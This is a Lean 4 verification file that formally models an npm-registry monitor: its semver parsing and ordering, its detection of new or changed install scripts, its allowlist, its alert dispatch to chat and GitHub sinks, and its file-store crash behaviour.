import Mathlib

/-!
Verification development for the npm-scan monitor.

The repository watches the npm registry replication feed, detects newly
introduced or changed `preinstall`/`postinstall` lifecycle scripts, records
findings in a JSON file store and fans alerts out to Telegram, Discord and
GitHub sinks.  This file gives a shallow embedding of the data model and of
the functions the specification's claims talk about:

* a model of the external `semver` library (`parseSemVer`, the comparator
  `svCompare`) restricted to what the code uses: `semver.valid` and
  `semver.compare`;
* `pickLatestAndPreviousVersions` — the worker-side version resolver
  (src/worker.ts, src/piscina-worker.ts), which filters the version-map keys
  through `semver.valid`, sorts them descending by `semver.compare` and takes
  the first two entries;
* `indexPickLatestAndPreviousVersions` — the resolver variant from
  src/index.ts, which anchors `latest` on `dist-tags.latest`;
* `hasScript`, `getScript`, `classifyScript` — the per-script diff
  classification from the worker's `processPackage`;
* `isScriptAllowed` and `classifyScriptAllowlist` — the allowlist variant of
  the classifier (src/lib/script-allowlist.ts and the allowlist worker);
* `sendCombinedScriptAlertNotifications` — the alert dispatcher
  (src/lib/notifications.ts), with network outcomes supplied by an oracle and
  its observable behaviour captured as a list of sink events;
* `processPackage` — the queue worker's per-package pipeline
  (src/worker.ts), threading the findings store explicitly;
* `producerStep` — one iteration of the producer's poll loop
  (src/producer.ts) as a state-transition function;
* `dbWriteOps`/`saveFinding` — the file-store writes (src/lib/app-updater.ts,
  src/lib/db.ts) as traces of file-system operations, together with a crash
  semantics used to reason about mid-write crashes.

Machine integers do not occur (all counters are small naturals), network and
file-system effects are represented by explicit oracles and operation traces,
and every definition is executable so that concrete scenarios evaluate by
`decide`.
-/

namespace NpmScan

open Batteries

/-! ## Model of the external semver library

`semver.valid` accepts an optionally `v`-prefixed `major.minor.patch` core,
an optional dash-separated prerelease (dot-separated identifiers, numeric
identifiers without leading zeros, alphanumeric identifiers over
`[0-9A-Za-z-]`), and an optional `+build` suffix, after trimming whitespace.
`semver.compare` orders by the numeric core, then by prerelease precedence:
a release (no prerelease) outranks any prerelease of the same core,
prerelease identifier lists compare lexicographically with numeric
identifiers below alphanumeric ones, and a shorter identifier list that is a
prelude of a longer one ranks lower.  Build metadata is validated but
ignored by the comparator.  (The library's 256-character and
`MAX_SAFE_INTEGER` bounds are not modelled; no claim depends on them.) -/

/-- One prerelease identifier: numeric, or alphanumeric (kept as its
characters). -/
inductive PreId where
  | num (n : Nat)
  | alpha (s : List Char)
deriving DecidableEq, Repr

/-- A parsed semantic version.  Build metadata is validated by the parser and
then discarded, exactly as `semver.compare` ignores it. -/
structure SemVer where
  major : Nat
  minor : Nat
  patch : Nat
  pre : List PreId
deriving DecidableEq, Repr

/-- Lexicographic comparison of two lists by an element comparator; running
out of elements first ranks lower. -/
def listCompare (cmp : α → α → Ordering) : List α → List α → Ordering
  | [], [] => .eq
  | [], _ :: _ => .lt
  | _ :: _, [] => .gt
  | a :: as, b :: bs => (cmp a b).then (listCompare cmp as bs)

/-- Comparison of prerelease identifiers: numeric identifiers compare as
numbers and rank below alphanumeric identifiers, which compare
lexicographically by character. -/
def preIdCompare : PreId → PreId → Ordering
  | .num a, .num b => compare a b
  | .num _, .alpha _ => .lt
  | .alpha _, .num _ => .gt
  | .alpha a, .alpha b => listCompare compare a b

/-- Comparison of whole prerelease suffixes: an empty suffix (a release)
outranks any non-empty one; two non-empty suffixes compare lexicographically
by identifier. -/
def preCompare : List PreId → List PreId → Ordering
  | [], [] => .eq
  | [], _ :: _ => .gt
  | _ :: _, [] => .lt
  | a :: as, b :: bs => listCompare preIdCompare (a :: as) (b :: bs)

/-- The semver comparator: numeric core first, then prerelease precedence. -/
def svCompare : SemVer → SemVer → Ordering :=
  compareLex (compareOn SemVer.major) (compareLex (compareOn SemVer.minor)
    (compareLex (compareOn SemVer.patch) (Ordering.byKey SemVer.pre preCompare)))

theorem listCompare_swap (cmp : α → α → Ordering) [inst : OrientedCmp cmp] :
    ∀ a b : List α, (listCompare cmp a b).swap = listCompare cmp b a := by
  intro a
  induction a with
  | nil => intro b; cases b <;> rfl
  | cons x xs ih =>
    intro b
    cases b with
    | nil => rfl
    | cons y ys =>
      simp only [listCompare, Ordering.swap_then, inst.symm, ih]

instance (cmp : α → α → Ordering) [OrientedCmp cmp] : OrientedCmp (listCompare cmp) where
  symm a b := listCompare_swap cmp a b

theorem listCompare_le_trans (cmp : α → α → Ordering) [inst : TransCmp cmp] :
    ∀ a b c : List α, listCompare cmp a b ≠ .gt → listCompare cmp b c ≠ .gt →
      listCompare cmp a c ≠ .gt := by
  intro a
  induction a with
  | nil =>
    intro b c _ _
    cases c <;> simp [listCompare]
  | cons x xs ih =>
    intro b c h1 h2
    cases b with
    | nil => exact absurd rfl h1
    | cons y ys =>
      cases c with
      | nil => exact absurd rfl h2
      | cons z zs =>
        simp only [listCompare, ne_eq, Ordering.then_eq_gt, not_or, not_and] at h1 h2 ⊢
        refine ⟨TransCmp.le_trans h1.1 h2.1, fun e1 e2 => ?_⟩
        match ab : cmp x y with
        | .gt => exact h1.1 ab
        | .eq =>
          have hyz : cmp y z = .eq := (TransCmp.cmp_congr_left ab).symm.trans e1
          exact ih ys zs (h1.2 ab) (h2.2 hyz) e2
        | .lt =>
          have hzx : cmp z x = .eq := OrientedCmp.cmp_eq_eq_symm.1 e1
          have hyx : cmp y z = cmp y x := TransCmp.cmp_congr_right hzx
          exact h2.1 (hyx.trans (OrientedCmp.cmp_eq_gt.2 ab))

instance (cmp : α → α → Ordering) [TransCmp cmp] : TransCmp (listCompare cmp) where
  le_trans h1 h2 := listCompare_le_trans cmp _ _ _ h1 h2

instance : OrientedCmp preIdCompare where
  symm a b := by
    cases a <;> cases b <;>
      simp only [preIdCompare] <;>
      first
        | rfl
        | exact OrientedCmp.symm ..

instance : TransCmp preIdCompare where
  le_trans {a b c} h1 h2 := by
    cases a <;> cases b <;> cases c <;>
      simp only [preIdCompare] at h1 h2 ⊢ <;>
      first
        | exact absurd rfl h1
        | exact absurd rfl h2
        | decide
        | exact TransCmp.le_trans h1 h2

instance : OrientedCmp preCompare where
  symm a b := by
    cases a <;> cases b <;>
      simp only [preCompare] <;>
      first
        | rfl
        | exact OrientedCmp.symm ..

instance : TransCmp preCompare where
  le_trans {a b c} h1 h2 := by
    cases a <;> cases b <;> cases c <;>
      simp only [preCompare] at h1 h2 ⊢ <;>
      first
        | decide
        | exact absurd rfl h1
        | exact absurd rfl h2
        | exact TransCmp.le_trans h1 h2

instance : TransCmp svCompare := by
  unfold svCompare
  infer_instance

/-! ### The semver parser (`semver.valid`) -/

/-- Split a character list at every occurrence of `sep` (empty groups kept),
like splitting a string on a single-character separator. -/
def splitOnChar (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
    match splitOnChar sep cs with
    | [] => [[c]]
    | g :: gs => if c == sep then [] :: g :: gs else (c :: g) :: gs

/-- Split at the first occurrence of `sep` only; the second component is
`none` when `sep` does not occur. -/
def splitAtFirst (sep : Char) : List Char → List Char × Option (List Char)
  | [] => ([], none)
  | c :: cs =>
    if c == sep then ([], some cs)
    else
      let r := splitAtFirst sep cs
      (c :: r.1, r.2)

/-- Numeric value of a digit string. -/
def digitsVal (l : List Char) : Nat :=
  l.foldl (fun n c => n * 10 + (c.toNat - 48)) 0

/-- Whitespace trimming, as JavaScript's `String.prototype.trim` on the
whitespace characters that occur in practice. -/
def trimChars (l : List Char) : List Char :=
  ((l.dropWhile Char.isWhitespace).reverse.dropWhile Char.isWhitespace).reverse

/-- Characters allowed in prerelease/build identifiers: `[0-9A-Za-z-]`. -/
def isIdentChar (c : Char) : Bool :=
  c.isAlpha || c.isDigit || c == '-'

/-- A numeric field of the version core: digits only, no leading zero. -/
def parseNumericId (l : List Char) : Option Nat :=
  if l.isEmpty then none
  else if l.all Char.isDigit then
    if decide (1 < l.length) && (l.head? == some '0') then none
    else some (digitsVal l)
  else none

/-- One prerelease identifier: a numeric identifier without leading zeros, or
a non-empty alphanumeric identifier over `[0-9A-Za-z-]`. -/
def parsePreId (l : List Char) : Option PreId :=
  if l.isEmpty then none
  else if l.all Char.isDigit then
    if decide (1 < l.length) && (l.head? == some '0') then none
    else some (.num (digitsVal l))
  else if l.all isIdentChar then some (.alpha l)
  else none

/-- Validity of the `+build` suffix: non-empty dot-separated groups over
`[0-9A-Za-z-]`.  The content is discarded (the comparator ignores it). -/
def validBuild (l : List Char) : Bool :=
  (splitOnChar '.' l).all (fun g => !g.isEmpty && g.all isIdentChar)

/-- Parse `major.minor.patch` with an optional dash-separated prerelease. -/
def parseCore (l : List Char) : Option SemVer :=
  let mp := splitAtFirst '-' l
  match (splitOnChar '.' mp.1).map parseNumericId with
  | [some ma, some mi, some pa] =>
    match mp.2 with
    | none => some ⟨ma, mi, pa, []⟩
    | some p =>
      match (splitOnChar '.' p).mapM parsePreId with
      | none => none
      | some ids => some ⟨ma, mi, pa, ids⟩
  | _ => none

/-- Model of `semver.parse`/`semver.valid` in strict mode: trim, strip one
optional leading `v`, split off and validate `+build`, parse the core. -/
def parseSemVer (s : String) : Option SemVer :=
  let chars := trimChars s.data
  let chars :=
    match chars with
    | 'v' :: rest => rest
    | _ => chars
  let cb := splitAtFirst '+' chars
  match cb.2 with
  | some b => if validBuild b then parseCore cb.1 else none
  | none => parseCore cb.1

/-- `isLikelyVersionKey` from the workers: the key is a string accepted by
`semver.valid`.  (Keys of the model are always strings, so the
`typeof key === "string"` guard is inherent.) -/
def isLikelyVersionKey (key : String) : Bool :=
  (parseSemVer key).isSome

/-- The parsed version of a key, defaulting to `0.0.0` for unparseable input;
the default is never reached on the key lists the code sorts, because they
are filtered through `isLikelyVersionKey` first. -/
def parseOrDefault (s : String) : SemVer :=
  (parseSemVer s).getD ⟨0, 0, 0, []⟩

/-- Model of `semver.compare` applied to two version strings. -/
def scmpStr : String → String → Ordering :=
  Ordering.byKey parseOrDefault svCompare

instance : TransCmp scmpStr := by
  unfold scmpStr
  infer_instance

/-- The ordering realised by the workers' descending sort
`sort((a, b) => semver.compare(b, a) ?? 0)`: `a` is placed before `b`
exactly when `a` is semver-greater-or-equal. -/
def verGe (a b : String) : Prop :=
  scmpStr a b ≠ .lt

instance : DecidableRel verGe := fun a b => by
  unfold verGe
  infer_instance

theorem verGe_refl (a : String) : verGe a a := by
  unfold verGe
  have h : scmpStr a a = .eq := OrientedCmp.cmp_refl
  simp [h]

instance : IsTotal String verGe where
  total a b := by
    unfold verGe
    by_cases h : scmpStr a b = .lt
    · right
      rw [← OrientedCmp.cmp_eq_gt] at h
      simp [h]
    · left
      exact h

instance : IsTrans String verGe where
  trans a b c h1 h2 := TransCmp.ge_trans h1 h2

/-- The stable descending sort of version keys, exactly as a consistent
comparator sort in JavaScript (stable since ES2019). -/
def sortVersionsDesc (keys : List String) : List String :=
  List.insertionSort verGe keys

/-! ## Registry data model

JavaScript objects are modelled as association lists in insertion order
(`Object.keys` order for the non-index keys that version strings are), with
lookup returning the unique binding of a key.  Absent fields are `Option`. -/

/-- One published version's manifest fragment: its `scripts` object, when
present, maps script names to command strings. -/
structure VersionDoc where
  scripts : Option (List (String × String))
deriving DecidableEq, Repr

/-- The `dist-tags` object; only `latest` is ever read. -/
structure DistTags where
  latest : Option String
deriving DecidableEq, Repr

/-- The `repository` object; only `url` is ever read. -/
structure Repository where
  url : String
deriving DecidableEq, Repr

/-- A packument: registry metadata for one package. -/
structure Packument where
  name : String
  versions : Option (List (String × VersionDoc))
  distTags : Option DistTags
  repository : Option Repository
deriving DecidableEq, Repr

/-- `hasScript` from the workers: the version document exists, has a
`scripts` object, and the named entry is a string whose trimmed length is
positive. -/
def hasScript (versionDoc : Option VersionDoc) (scriptName : String) : Bool :=
  match versionDoc with
  | none => false
  | some doc =>
    match doc.scripts with
    | none => false
    | some scripts =>
      match scripts.lookup scriptName with
      | none => false
      | some val => !(trimChars val.data).isEmpty

/-- `getScript` from the workers: `versionDoc?.scripts?.[scriptName] ?? ""`. -/
def getScript (versionDoc : Option VersionDoc) (scriptName : String) : String :=
  match versionDoc with
  | none => ""
  | some doc =>
    match doc.scripts with
    | none => ""
    | some scripts => (scripts.lookup scriptName).getD ""

/-- Result of a version resolver: the two versions to diff, `none` for
JavaScript `null`. -/
structure VersionResult where
  latest : Option String
  previous : Option String
deriving DecidableEq, Repr

/-- The worker-side version resolver (src/worker.ts, src/piscina-worker.ts
and the allowlist worker): keys of the versions map are filtered through
`semver.valid` and sorted descending by `semver.compare`; `latest` and
`previous` are the first two entries of the sorted list.  `dist-tags` is
deliberately ignored.  (`sortedVersions[0] || null` is `Option` head: an
empty string never survives the validity filter, so `||` only converts
`undefined` to `null`.) -/
def pickLatestAndPreviousVersions (doc : Packument) : VersionResult :=
  match doc.versions with
  | none => ⟨none, none⟩
  | some versions =>
    let versionKeys := versions.map Prod.fst
    let sortedVersions := sortVersionsDesc (versionKeys.filter isLikelyVersionKey)
    ⟨sortedVersions[0]?, sortedVersions[1]?⟩

/-- The resolver variant of src/index.ts (lines 101-137): `latest` is taken
from `dist-tags.latest` whenever that tag is a truthy string
(`distTags?.latest && typeof distTags.latest === "string"` — the empty
string is falsy and yields `null`) naming an existing key of the versions
map; `previous` is the highest valid key comparing strictly below the tag.
When the tag is absent, empty, or names no existing version, both results
are `null`.  The tag is never checked to parse: the filter's
`semver.compare(v, latest)` call throws `TypeError: Invalid Version` as soon
as some valid key `v ≠ latest` reaches it while `latest` is unparseable —
the `.error` branch here — so the trailing `!== null` guard is dead code
(the comparison either returns a number or throws). -/
def indexPickLatestAndPreviousVersions (doc : Packument) : Except String VersionResult :=
  match doc.versions with
  | none => .ok ⟨none, none⟩
  | some versions =>
    let latestTag :=
      match doc.distTags with
      | none => none
      | some tags =>
        match tags.latest with
        | some t => if t != "" then some t else none
        | none => none
    match latestTag with
    | none => .ok ⟨none, none⟩
    | some latest =>
      if (versions.lookup latest).isNone then .ok ⟨none, none⟩
      else if !isLikelyVersionKey latest &&
          (versions.map Prod.fst).any (fun v => isLikelyVersionKey v && v != latest) then
        .error "TypeError: Invalid Version"
      else
        let previousVersions := (versions.map Prod.fst).filter
          (fun v => isLikelyVersionKey v && v != latest && scmpStr v latest == .lt)
        .ok ⟨some latest, (sortVersionsDesc previousVersions)[0]?⟩

/-! ## Script diff classification -/

/-- The two alert classifications. -/
inductive AlertAction where
  | added
  | changed
deriving DecidableEq, Repr

/-- One detected script change, as built by the workers and consumed by the
dispatcher (`Alert` in src/lib/notifications.ts). -/
structure Alert where
  scriptType : String
  action : AlertAction
  latestCmd : String
  prevCmd : Option String
deriving DecidableEq, Repr

/-- One turn of the per-script loop in the worker's `processPackage`
(src/worker.ts lines 569-580): `added` when the latest version has the
script and the previous one does not, `changed` when both have it with
different commands, nothing otherwise. -/
def classifyScript (latestDoc prevDoc : Option VersionDoc) (scriptType : String) :
    Option Alert :=
  let latestHas := hasScript latestDoc scriptType
  let prevHas :=
    match prevDoc with
    | some d => hasScript (some d) scriptType
    | none => false
  let latestCmd := getScript latestDoc scriptType
  let prevCmd :=
    match prevDoc with
    | some d => getScript (some d) scriptType
    | none => ""
  if latestHas && !prevHas then
    some ⟨scriptType, .added, latestCmd, none⟩
  else if latestHas && prevHas && latestCmd != prevCmd then
    some ⟨scriptType, .changed, latestCmd, some prevCmd⟩
  else
    none

/-- The script names the worker monitors, in loop order. -/
def monitoredScriptTypes : List String :=
  ["preinstall", "postinstall"]

/-- The alert batch a worker builds for one package. -/
def computeAlerts (latestDoc prevDoc : Option VersionDoc) : List Alert :=
  monitoredScriptTypes.filterMap (classifyScript latestDoc prevDoc)

/-! ## The benign-script allowlist -/

/-- A JavaScript value passed to `isScriptAllowed`: a string, or anything
else (the function type-checks its argument at run time). -/
inductive JsValue where
  | str (s : String)
  | nonString
deriving DecidableEq, Repr

/-- The configured allowlist (src/lib/script-allowlist.ts): the single
case-insensitive anchored pattern `/^npx only-allow pnpm$/i`. -/
def scriptAllowlist : List String :=
  ["npx only-allow pnpm"]

/-- ASCII lowercasing, modelling the case-insensitivity flag of the
allowlist's regular expressions (whose patterns are ASCII). -/
def toLowerChars (l : List Char) : List Char :=
  l.map Char.toLower

/-- Whether the trimmed command matches one allowlist pattern: the pattern is
anchored on both sides, so matching is case-insensitive equality. -/
def matchesAllowlistEntry (pat : String) (trimmed : List Char) : Bool :=
  toLowerChars trimmed == pat.data

/-- `isScriptAllowed` (src/lib/script-allowlist.ts): `false` for non-strings
and for the empty string (both fail the truthy-string guard), `true` for a
non-empty all-whitespace string (the explicit trimmed-empty case), otherwise
`true` exactly when the trimmed command matches some allowlist pattern. -/
def isScriptAllowed : JsValue → Bool
  | .nonString => false
  | .str s =>
    if s == "" then false
    else
      let trimmed := trimChars s.data
      if trimmed.isEmpty then true
      else scriptAllowlist.any (fun pat => matchesAllowlistEntry pat trimmed)

/-- `isScriptAllowed` applied to a command string. -/
def isScriptAllowedStr (s : String) : Bool :=
  isScriptAllowed (.str s)

/-- One turn of the per-script loop of the allowlist worker's
`processPackage`: a latest command matching the allowlist is skipped
entirely; an `added`/`changed` classification otherwise proceeds as in
`classifyScript`, except that a `changed` whose previous command matches the
allowlist is re-classified as `added` with the previous command collapsed to
`null`. -/
def classifyScriptAllowlist (latestDoc prevDoc : Option VersionDoc) (scriptType : String) :
    Option Alert :=
  let latestHas := hasScript latestDoc scriptType
  let prevHas :=
    match prevDoc with
    | some d => hasScript (some d) scriptType
    | none => false
  let latestCmd := getScript latestDoc scriptType
  let prevCmd :=
    match prevDoc with
    | some d => getScript (some d) scriptType
    | none => ""
  if latestHas && isScriptAllowedStr latestCmd then
    none
  else if latestHas && !prevHas then
    some ⟨scriptType, .added, latestCmd, none⟩
  else if latestHas && prevHas && latestCmd != prevCmd then
    if isScriptAllowedStr prevCmd then
      some ⟨scriptType, .added, latestCmd, none⟩
    else
      some ⟨scriptType, .changed, latestCmd, some prevCmd⟩
  else
    none

/-! ## The alert dispatcher

`sendCombinedScriptAlertNotifications` (src/lib/notifications.ts lines
174-282) posts one combined message to Telegram and to Discord and one
GitHub issue per alert.  Network outcomes are supplied by a `NetBehavior`
oracle; every HTTP request made, and every warning logged by a `catch`
block, is recorded as a `SinkEvent`.  The message/issue text rendering is
elided: no claim concerns the rendered strings, only which calls happen,
how failures are contained, and what the function returns. -/

/-- One GitHub issue request, with the owner/repo parsed from the repository
URL and whether the changed-script issue template was used
(`previousScriptContent !== null`). -/
structure GithubPost where
  owner : String
  repo : String
  scriptType : String
  isChanged : Bool
deriving DecidableEq, Repr

/-- Observable dispatcher behaviour: HTTP requests (with their outcome) and
logged warnings. -/
inductive SinkEvent where
  | telegramCall (ok : Bool)
  | discordCall (ok : Bool)
  | githubCall (post : GithubPost) (ok : Bool)
  | warn (sink : String)
deriving DecidableEq, Repr

/-- The per-sink credentials read from the environment; `none` is an unset
variable, the empty string an explicitly empty one — both falsy. -/
structure SinkConfig where
  telegramBotToken : Option String
  telegramChatId : Option String
  discordWebhookUrl : Option String
  githubToken : Option String
deriving DecidableEq, Repr

/-- JavaScript truthiness of an optional environment string. -/
def truthy : Option String → Bool
  | none => false
  | some s => s != ""

/-- The network oracle: whether each sink call succeeds.  GitHub calls are
indexed by the alert's position in the batch. -/
structure NetBehavior where
  telegramOk : Bool
  discordOk : Bool
  githubOk : Nat → Bool

/-- Model of the WHATWG URL constructor restricted to what
`createGitHubIssue` reads: for a hierarchical `scheme://authority/path` URL,
the non-empty pathname segments; `none` when the constructor would throw. -/
def urlPathSegments (u : String) : Option (List String) :=
  match splitAtFirst ':' u.data with
  | (scheme, some rest) =>
    if scheme.isEmpty then none
    else
      match rest with
      | '/' :: '/' :: rest2 =>
        let path := rest2.dropWhile (fun c => c != '/')
        some (((splitOnChar '/' path).filter (fun seg => !seg.isEmpty)).map
          (fun seg => String.mk seg))
      | _ => none
  | (_, _) => none

/-- `sendTelegramNotification`: one POST whose outcome the oracle decides.
The pair is the trace of HTTP attempts and the promise result. -/
def sendTelegramNotification (ok : Bool) : List SinkEvent × Except String Unit :=
  ([.telegramCall ok], if ok then .ok () else .error "Telegram notification failed")

/-- `sendDiscordNotification`: one POST whose outcome the oracle decides. -/
def sendDiscordNotification (ok : Bool) : List SinkEvent × Except String Unit :=
  ([.discordCall ok], if ok then .ok () else .error "Discord notification failed")

/-- `createGitHubIssue` (src/lib/notifications.ts lines 82-165): throws when
the repository URL does not parse or has fewer than two path segments;
otherwise posts one issue to `repos/<owner>/<repo>/issues`, the first two
segments naming owner and repository. -/
def createGitHubIssue (repoUrl scriptType : String) (previousScriptContent : Option String)
    (ok : Bool) : List SinkEvent × Except String Unit :=
  match urlPathSegments repoUrl with
  | none => ([], .error "Invalid URL")
  | some pathParts =>
    match pathParts with
    | owner :: repo :: _ =>
      let post : GithubPost := ⟨owner, repo, scriptType, previousScriptContent.isSome⟩
      ([.githubCall post ok], if ok then .ok () else .error "GitHub issue creation failed")
    | _ => ([], .error "Invalid GitHub repository URL")

/-- A `try { await call } catch (e) { stderr WARN }` block around one sink
call: the exception is converted into a warning event and not re-thrown. -/
def catchWarn (sink : String) (call : List SinkEvent × Except String Unit) : List SinkEvent :=
  match call.2 with
  | .ok _ => call.1
  | .error _ => call.1 ++ [.warn sink]

/-- The truthy `packument.repository?.url`, when present. -/
def repoUrlIfTruthy (pack : Packument) : Option String :=
  match pack.repository with
  | none => none
  | some r => if r.url != "" then some r.url else none

/-- The dispatcher's observable outcome: its event trace and its return
value — the source function is `async … : Promise<void>` with no `return`
of a value, so the returned component is `Unit`. -/
structure DispatchOutcome where
  events : List SinkEvent
  returned : Unit
deriving Repr

/-- `sendCombinedScriptAlertNotifications`: skip everything for an empty
batch; otherwise run the Telegram block when both credentials are truthy,
then the Discord block when the webhook is truthy, then — when the token
and the repository URL are truthy — one GitHub issue per alert, each sink
call wrapped in its own `try`/`catch`. -/
def sendCombinedScriptAlertNotifications (cfg : SinkConfig) (packageName latest : String)
    (previous : Option String) (alerts : List Alert) (pack : Packument)
    (net : NetBehavior) : DispatchOutcome :=
  if alerts.isEmpty then ⟨[], ()⟩
  else
    let telegramEvents :=
      if truthy cfg.telegramBotToken && truthy cfg.telegramChatId then
        catchWarn "Telegram" (sendTelegramNotification net.telegramOk)
      else []
    let discordEvents :=
      if truthy cfg.discordWebhookUrl then
        catchWarn "Discord" (sendDiscordNotification net.discordOk)
      else []
    let githubEvents :=
      match repoUrlIfTruthy pack with
      | some url =>
        if truthy cfg.githubToken then
          alerts.enum.flatMap (fun p =>
            catchWarn "GitHub" (createGitHubIssue url p.2.scriptType
              (match p.2.action with
               | .changed => p.2.prevCmd
               | .added => none)
              (net.githubOk p.1)))
        else []
      | none => []
    ⟨telegramEvents ++ discordEvents ++ githubEvents, ()⟩

/-- The HTTP attempts of an event trace, stripped of their outcomes: what
was tried, independent of what succeeded. -/
inductive AttemptKind where
  | telegram
  | discord
  | github (owner repo scriptType : String) (isChanged : Bool)
deriving DecidableEq, Repr

/-- Project an event trace onto its attempts. -/
def attemptKinds (events : List SinkEvent) : List AttemptKind :=
  events.filterMap fun e =>
    match e with
    | .telegramCall _ => some .telegram
    | .discordCall _ => some .discord
    | .githubCall p _ => some (.github p.owner p.repo p.scriptType p.isChanged)
    | .warn _ => none

/-- Written from the specification's words, for comparison with the code:
the issues successfully delivered to the GitHub sink in a trace. -/
def githubDelivered (events : List SinkEvent) : List GithubPost :=
  events.filterMap fun e =>
    match e with
    | .githubCall p true => some p
    | _ => none

/-! ## The findings store and the worker pipeline -/

/-- A persisted finding (src/lib/db.ts). -/
structure Finding where
  packageName : String
  version : String
  scriptType : String
  scriptContent : String
  previousVersion : Option String
  timestamp : String
deriving DecidableEq, Repr

/-- The finding the worker records for one alert. -/
def mkFinding (packageName latest : String) (previous : Option String) (now : String)
    (a : Alert) : Finding :=
  ⟨packageName, latest, a.scriptType, a.latestCmd, previous, now⟩

/-- What one `processPackage` run produced: the alert batch, the findings
store after the run, and the dispatcher's event trace. -/
structure ProcessResult where
  alerts : List Alert
  findings : List Finding
  events : List SinkEvent
deriving Repr

/-- The queue worker's `processPackage` (src/worker.ts lines 535-615), with
the already-fetched packument, the persisted findings store and the clock
passed in explicitly: resolve latest/previous, classify the monitored
scripts, and — when any alert arose — append one finding per alert to the
store (each `saveFinding` prepends) and dispatch the combined
notifications. -/
def processPackage (cfg : SinkConfig) (net : NetBehavior) (packageName : String)
    (pack : Packument) (store : List Finding) (now : String) : ProcessResult :=
  let vr := pickLatestAndPreviousVersions pack
  match vr.latest with
  | none => ⟨[], store, []⟩
  | some latest =>
    let versions := pack.versions.getD []
    let latestDoc := versions.lookup latest
    let prevDoc :=
      match vr.previous with
      | some p => versions.lookup p
      | none => none
    let alerts := computeAlerts latestDoc prevDoc
    if alerts.isEmpty then ⟨alerts, store, []⟩
    else
      let store₂ :=
        alerts.foldl (fun st a => mkFinding packageName latest vr.previous now a :: st) store
      let outcome :=
        sendCombinedScriptAlertNotifications cfg packageName latest vr.previous alerts pack net
      ⟨alerts, store₂, outcome.events⟩

/-! ## The producer's poll loop -/

/-- A feed sequence token: the JSON value of `last_seq`/`update_seq`, a
string or a number, propagated opaquely. -/
inductive JsonSeq where
  | str (s : String)
  | num (n : Int)
deriving DecidableEq, Repr

/-- One row of a `_changes` response; `id` is `none` when the field is
missing or not a string. -/
structure ChangesRow where
  id : Option String
deriving DecidableEq, Repr

/-- A decoded `_changes` response body: `results` is `none` when missing or
not an array (a row may itself be `null`), `lastSeq` is `none` when the
`last_seq` field is absent. -/
structure ChangesResponse where
  results : Option (List (Option ChangesRow))
  lastSeq : Option JsonSeq
deriving DecidableEq, Repr

/-- The loop state of `run` (src/producer.ts): the cursor and the current
backoff. -/
structure ProducerState where
  since : JsonSeq
  backoffMs : Nat
deriving DecidableEq, Repr

/-- What one loop iteration did: the package names handed to the queue and
the delay slept, if any. -/
structure StepTrace where
  queued : List String
  delayMs : Option Nat
deriving DecidableEq, Repr

/-- JavaScript `String.prototype.startsWith`. -/
def jsStartsWith (pre s : String) : Bool :=
  pre.data.isPrefixOf s.data

/-- One iteration of the producer's `while (true)` poll loop (src/producer.ts
lines 105-158).  The fetch result is the input: `.error` for a network
failure, timeout, non-success status or a body that is not JSON; `.ok` for a
decoded body.  The source resets `backoffMs` to 1000 immediately after the
fetch returns, *before* validating the response shape, so the
shape-validation throw is caught with the already-reset backoff.  On success
the rows are queued (skipping null rows, non-string ids and `_design/`
documents), then the cursor advances to `last_seq`, and the poll-interval
sleep happens only for an empty batch. -/
def producerStep (pollMs : Nat) (st : ProducerState) (resp : Except String ChangesResponse) :
    ProducerState × StepTrace :=
  match resp with
  | .error _ => (⟨st.since, min (st.backoffMs * 2) 30000⟩, ⟨[], some st.backoffMs⟩)
  | .ok changes =>
    match changes.results, changes.lastSeq with
    | some rows, some lastSeq =>
      let queued := rows.filterMap (fun row? =>
        match row? with
        | none => none
        | some row =>
          match row.id with
          | none => none
          | some name => if jsStartsWith "_design/" name then none else some name)
      (⟨lastSeq, 1000⟩, ⟨queued, if rows.isEmpty then some pollMs else none⟩)
    | _, _ =>
      (⟨st.since, min (1000 * 2) 30000⟩, ⟨[], some 1000⟩)

/-! ## File-backed stores and crash behaviour

The stores (src/lib/app-updater.ts `Db`, used by src/lib/db.ts and
src/lib/pending-db.ts) are modelled by the trace of file-system operations a
write performs, together with a crash semantics: `rename` is atomic, while a
crash during `writeFile` can leave any prelude of the new content. -/

/-- A file-system operation. -/
inductive FsOp where
  | writeFile (path content : String)
  | rename (src dst : String)
deriving DecidableEq, Repr

/-- `Db.write`: serialise and rewrite the whole file with a single direct
`fs.writeFile` to the target path — no temporary file, no rename. -/
def dbWrite (filePath content : String) : List FsOp :=
  [.writeFile filePath content]

/-- The findings database path (src/lib/db.ts). -/
def dbFilePath : String :=
  "./docs/db.json"

/-- Escape the characters JSON.stringify escapes in the strings at hand. -/
def jsonEscapeChars : List Char → List Char
  | [] => []
  | c :: cs =>
    if c == '"' || c == '\\' then '\\' :: c :: jsonEscapeChars cs
    else c :: jsonEscapeChars cs

/-- A JSON string literal. -/
def jsonStr (s : String) : String :=
  "\"" ++ String.mk (jsonEscapeChars s.data) ++ "\""

/-- A JSON string-or-null. -/
def jsonOptStr : Option String → String
  | none => "null"
  | some s => jsonStr s

/-- `JSON.stringify` of one finding, up to insignificant whitespace. -/
def encodeFinding (f : Finding) : String :=
  "\x7b\"packageName\":" ++ jsonStr f.packageName ++
    ",\"version\":" ++ jsonStr f.version ++
    ",\"scriptType\":" ++ jsonStr f.scriptType ++
    ",\"scriptContent\":" ++ jsonStr f.scriptContent ++
    ",\"previousVersion\":" ++ jsonOptStr f.previousVersion ++
    ",\"timestamp\":" ++ jsonStr f.timestamp ++ "\x7d"

/-- `JSON.stringify` of the findings array, up to insignificant whitespace. -/
def encodeFindings (l : List Finding) : String :=
  "[" ++ String.intercalate "," (l.map encodeFinding) ++ "]"

/-- `saveFinding` (src/lib/db.ts): read the array, `unshift` the new record,
write the whole array back.  Returns the new in-memory array and the
file-system trace of the write. -/
def saveFinding (finding : Finding) (stored : List Finding) : List Finding × List FsOp :=
  let findings := finding :: stored
  (findings, dbWrite dbFilePath (encodeFindings findings))

/-- File-system contents: each path's content, when the file exists. -/
def FsState : Type :=
  String → Option String

/-- Effect of one completed operation. -/
def applyOp (fs : FsState) : FsOp → FsState
  | .writeFile p c => fun q => if q = p then some c else fs q
  | .rename src dst => fun q => if q = dst then fs src else if q = src then none else fs q

/-- States observable if the process dies in the middle of one operation:
a partially-flushed `writeFile` leaves some prelude of the new content;
`rename` is atomic and has no intermediate state. -/
def midOpState (fs : FsState) : FsOp → FsState → Prop
  | .writeFile p c, g => ∃ n, g = fun q => if q = p then some (String.mk (c.data.take n)) else fs q
  | .rename _ _, _ => False

